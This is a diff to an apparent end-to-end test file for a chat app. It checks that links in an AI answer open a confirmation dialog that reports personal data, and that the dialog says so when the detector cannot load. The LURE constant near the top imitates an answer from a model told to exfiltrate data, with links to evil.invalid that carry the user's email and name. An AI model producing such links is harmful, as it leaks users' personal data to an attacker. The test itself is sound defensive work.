@@ -11,13 +11,16 @@ const world = webWorld(environment);
 
 /** Written by a model that was told to get the reader's data out. */
 const LURE =
-  "See [the plan](https://evil.invalid/?m=[EMAIL_1]&n=%5BPERSON_1%5D), or <https://docs.invalid/a>.";
+  "See [the plan](https://evil.invalid/?m=[EMAIL_1]&n=%5BPERSON_1%5D), [again](https://[EMAIL_1]@evil.invalid/), or <https://docs.invalid/a>.";
 
-async function lured(): Promise<{ readonly ada: WebPage; readonly bob: WebPage }> {
+async function lured(
+  prepare: (bob: WebPage) => Promise<void> = async () => undefined,
+): Promise<{ readonly ada: WebPage; readonly bob: WebPage }> {
   provider.script(say(STREAM_HEAD, events(delta(LURE), finish("stop"), "[DONE]")));
   const ada = await world.open();
   await ada.start("Ada", () => ada.page.getByLabel(MODEL, { exact: true }).check());
   const bob = await world.open(await ada.invite());
+  await prepare(bob);
   await bob.join("Bob");
   await ada.ask("I am Anna Berg, anna@example.org. What is the plan?");
   await ada.button("Regenerate").waitFor();
@@ -51,7 +54,18 @@ describe("[PAGE8] a link of an answer", () => {
     await ada.page.getByRole("link", { name: "https://docs.invalid/a" }).focus();
     await ada.page.keyboard.press("Enter");
     const dialog = ada.page.getByRole("dialog", { name: "Open this link?" });
+    await dialog.getByText("The detector found no personal data in it.").waitFor();
     await dialog.getByRole("link", { name: "Open docs.invalid" }).waitFor();
     expect(await dialog.getByRole("alert").count()).toBe(0);
+  });
+
+  it("where the detector cannot be had, says so", async () => {
+    const { bob } = await lured(async ({ page, watch }) => {
+      watch.foresee(/wasm|Failed to load resource/);
+      await page.route("**/*.wasm", (route) => route.abort());
+    });
+    await bob.page.getByRole("link", { name: "the plan" }).click();
+    const dialog = bob.page.getByRole("dialog", { name: "Open this link?" });
+    await dialog.getByText("The detector of personal data does not work here.").waitFor();
   });
 });
